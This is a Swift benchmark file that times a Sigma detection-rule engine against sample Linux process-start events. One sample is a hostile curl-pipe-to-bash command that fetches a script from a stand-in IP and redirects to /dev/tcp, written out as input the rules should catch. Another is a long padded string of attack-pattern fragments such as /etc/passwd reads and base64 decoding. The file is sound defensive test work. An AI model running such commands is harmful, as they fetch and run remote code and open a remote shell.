import Benchmark
import Glibc
import Sigma

/// All rules of a directory against one process start.
func ruleBenchmarks() {
    let directory = getenv("TOCSIN_BENCH_RULES").map { String(cString: $0) } ?? "../config/rules"
    var collection = RuleCollection()
    collection.add(path: directory)
    let rules = RuleSet(collection, streams: [LogSource(category: "process_creation", product: "linux")])
    // Here and at once: while a benchmark runs, and without the bar of progress, what is written is thrown away.
    print("rules: \(rules.rules.count) loaded, \(rules.refusals.count) refused, tables \(rules.tableSize) bytes")
    fflush(nil)
    for (name, start) in ProcessStart.samples {
        measure("all rules, \(name)", count: 100) {
            var evaluator = Evaluator(rules)
            var values = FieldValues(for: rules)
            var matches: [Int] = []
            let fields = start.fields.map { (rules.field($0.name), [UInt8]($0.value.utf8)) }
            return { count in
                for _ in 0..<count {
                    values.removeAll()
                    for (field, value) in fields { values.add(field, value) }
                    matches.removeAll(keepingCapacity: true)
                    evaluator.evaluate(values, stream: 0, into: &matches)
                }
                blackHole(matches.count)
            }
        }
    }
}

private struct ProcessStart {
    var image: String
    var commandLine: String

    var fields: [(name: String, value: String)] {
        [
            ("Image", image), ("CommandLine", commandLine), ("CurrentDirectory", "/home/alice/projects/tocsin"),
            ("User", "alice"), ("LogonId", "3"), ("ParentImage", "/usr/bin/bash"), ("ParentCommandLine", "-bash"),
        ]
    }

    static let samples: [(String, ProcessStart)] = [
        (
            "an ordinary start",
            ProcessStart(
                image: "/usr/bin/git",
                commandLine: "git log --oneline --decorate --max-count=20 origin/main")
        ),
        (
            "a start that matches",
            ProcessStart(
                image: "/usr/bin/curl", commandLine: "curl -fsSL http://203.0.113.9/x.sh | bash -i > /dev/tcp/x")
        ),
        // What a rule engine would hate: the length limit of one argument, full of beginnings of what rules look for.
        (
            "a hostile 128 KiB command line",
            ProcessStart(
                image: "/usr/bin/python3",
                commandLine: String(repeating: "/dev/tcp /etc/passw base64 -d|ba python -c impor ", count: 2_674))
        ),
    ]
}
